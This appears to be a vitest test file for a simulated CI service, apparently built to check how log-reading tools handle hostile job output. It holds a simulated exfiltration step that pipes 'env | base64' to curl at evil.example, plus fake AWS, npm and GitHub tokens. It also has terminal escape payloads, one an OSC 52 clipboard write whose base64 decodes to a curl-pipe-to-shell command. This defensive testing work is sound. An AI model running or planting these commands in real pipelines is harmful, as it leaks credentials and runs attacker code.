import { describe, expect, it } from 'vitest';
import {
  CORPUS_SPLIT_SEQUENCE,
  SIM_EXFIL_ENV_DUMP,
  SIM_HUGE_LOG,
  SIM_LEAKS,
  SIM_MALICIOUS,
  SIM_RUNNING,
  SIM_SHARDS,
  TERMINAL_ATTACK_CORPUS,
  startSimulator,
} from '../../src/sim/index.js';
import { action, stepOutput, useSimulator } from './sim-test-kit.js';

const sim = useSimulator();

describe('the exfiltration step (job 5015, step 104)', () => {
  it('pipes env | base64 to evil.example in its bash_command', async () => {
    const a = await action(sim(), SIM_MALICIOUS.jobs.test, SIM_MALICIOUS.maliciousStep);
    expect(a.name).toBe('Upload coverage');
    expect(a.bash_command).toMatch(/env \| base64.*\| curl .*https:\/\/evil\.example\/collect/);
  });

  it('prints the credentials in clear and base64-encoded', async () => {
    const { text } = await stepOutput(sim(), SIM_MALICIOUS.jobs.test, SIM_MALICIOUS.maliciousStep);
    expect(SIM_LEAKS.awsAccessKeyId).toBe('AKIAQ3EGRTLYX7K5WZPN');
    expect(SIM_LEAKS.awsSecretAccessKey).toHaveLength(40);
    expect(SIM_LEAKS.npmToken).toMatch(/^npm_[A-Za-z0-9]{36}$/);
    expect(SIM_LEAKS.githubToken).toMatch(/^ghp_[A-Za-z0-9]{36}$/);
    expect(text).toContain(`AWS_ACCESS_KEY_ID=${SIM_LEAKS.awsAccessKeyId}`);
    expect(text).toContain(`AWS_SECRET_ACCESS_KEY=${SIM_LEAKS.awsSecretAccessKey}`);
    expect(text).toContain(`NPM_TOKEN=${SIM_LEAKS.npmToken}`);
    const b64 = Buffer.from(SIM_EXFIL_ENV_DUMP).toString('base64');
    expect(text.replace(/\r\n/g, '')).toContain(b64);
  });

  it('prints every row of the terminal-attack corpus, labelled, with the real bytes', async () => {
    const { raw, messages, text } = await stepOutput(sim(), SIM_MALICIOUS.jobs.test, SIM_MALICIOUS.maliciousStep);
    const ids = ['A1', 'A2', 'A3', 'B1', 'B2', 'B3', 'B4', 'C1', 'C2', 'C3', 'C4', 'C5', 'C6', 'C7', 'D1', 'D2', 'D3', 'D4', 'D5', 'D6', 'D7',
      'E1', 'E2', 'E3', 'E4', 'E5', 'E6', 'E7', 'E8', 'E9', 'F1', 'F2', 'F3', 'F4', 'F5', 'F6', 'F7', 'F8', 'F9', 'F10',
      'G1', 'G2', 'G3', 'G4', 'H1', 'H2', 'H3', 'I1', 'I2', 'I3', 'J1', 'J2', 'J3', 'J4', 'J5', 'J6', 'K1'];
    for (const id of ids) expect(text, id).toMatch(new RegExp(`\\[${id}(\\.\\d+)?\\] `));
    // Payloads reach the client as real control characters, not as "\x1b" text.
    for (const row of TERMINAL_ATTACK_CORPUS)
      for (const variant of row.variants)
        if (variant.every((p) => typeof p === 'string')) expect(text, row.id).toContain(variant.join(''));
    expect(text).toContain('\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2gK\x07');
    expect(text).toContain('\u0000');
    // Lone surrogates travel as JSON escapes; invalid UTF-8 travels as raw bytes.
    expect(raw.toString('latin1')).toContain('\\ud800');
    expect(raw.includes(Buffer.from([0x9b, 0x33, 0x31, 0x6d, 0x58]))).toBe(true);
    expect(raw.includes(Buffer.from([0xff, 0xfe]))).toBe(true);
    // I3: the OSC 52 is split across two consecutive messages.
    const i = messages.findIndex((m) => m.message.endsWith(CORPUS_SPLIT_SEQUENCE[0]));
    expect(i).toBeGreaterThan(0);
    expect(messages[i + 1]?.message.startsWith(CORPUS_SPLIT_SEQUENCE[1])).toBe(true);
    expect(messages.some((m) => m.message.includes('\x1b]52;c;ZXZpbA==\x07') && m.message.includes('I3'))).toBe(false);
  });

  it('fails the lint job with a leaked GitHub token and npm ERR! lines', async () => {
    const a = await action(sim(), SIM_MALICIOUS.jobs.lint, SIM_MALICIOUS.lintStep);
    expect([a.name, a.status, a.exit_code]).toEqual(['Run linter', 'failed', 1]);
    const { text, messages } = await stepOutput(sim(), SIM_MALICIOUS.jobs.lint, SIM_MALICIOUS.lintStep);
    expect(text).toContain(SIM_LEAKS.githubToken);
    expect(text).toMatch(/^npm ERR! /m);
    expect(messages.some((m) => m.type === 'err')).toBe(true);
    expect(text).toContain('Exited with code exit status 1');
  });
});

describe('other stories', () => {
  it('gives each of the 4 shards its own output, naming its node; node 2 fails', async () => {
    const outs = await Promise.all([0, 1, 2, 3].map((n) => stepOutput(sim(), SIM_SHARDS.job, SIM_SHARDS.step, n)));
    expect(new Set(outs.map((o) => o.text)).size).toBe(4);
    outs.forEach((o, n) => expect(o.text).toContain(`CIRCLE_NODE_INDEX=${n}`));
    const failed = await action(sim(), SIM_SHARDS.job, SIM_SHARDS.step, SIM_SHARDS.failedNode);
    expect([failed.status, failed.exit_code]).toEqual(['failed', 1]);
    expect((await action(sim(), SIM_SHARDS.job, SIM_SHARDS.step, 1)).status).toBe('success');
  });

  it('serves a ~20 MB, 300k-line nightly log with the needle at its line', async () => {
    const { raw, messages, text } = await stepOutput(sim(), SIM_HUGE_LOG.job, SIM_HUGE_LOG.step);
    expect(raw.length).toBeGreaterThan(15_000_000);
    expect(raw.length).toBeLessThan(30_000_000);
    const lines = text.split('\r\n');
    expect(lines.length - 1).toBe(SIM_HUGE_LOG.lines);
    expect(lines[SIM_HUGE_LOG.needleLine - 1]).toBe(SIM_HUGE_LOG.needle);
    expect(lines.filter((l) => l === SIM_HUGE_LOG.needle)).toHaveLength(1);
    expect(lines.some((l) => l.includes('ERROR'))).toBe(true);
    expect(lines.some((l) => l.includes('WARN'))).toBe(true);
    const sizes = messages.map((m) => m.message.split('\r\n').length - 1);
    expect(Math.min(...sizes)).toBeGreaterThanOrEqual(1);
    expect(Math.max(...sizes)).toBeLessThanOrEqual(200);
    expect(messages.length).toBeGreaterThan(1_000);
  });

  it('grows the running deploy output by one line per lineIntervalMs on the simulator clock', async () => {
    let clockMs = Date.UTC(2030, 0, 2, 3, 0, 0);
    const moving = await startSimulator({ now: () => clockMs });
    try {
      const before = await stepOutput(moving, SIM_RUNNING.job, SIM_RUNNING.step);
      clockMs += 2 * SIM_RUNNING.lineIntervalMs;
      const after = await stepOutput(moving, SIM_RUNNING.job, SIM_RUNNING.step);
      expect(after.messages.length).toBe(before.messages.length + 2);
      expect(after.text.startsWith(before.text)).toBe(true);
      // Nothing grows while the clock stands still.
      expect((await stepOutput(moving, SIM_RUNNING.job, SIM_RUNNING.step)).text).toBe(after.text);
    } finally {
      await moving.close();
    }
  });

  it('has steps with exit_code null and steps without output in ordinary jobs', async () => {
    const spinUp = await action(sim(), 4001, 0);
    expect([spinUp.exit_code, spinUp.has_output]).toEqual([null, true]);
    const results = await action(sim(), 4001, 104);
    expect(results.has_output).toBe(false);
  });
});
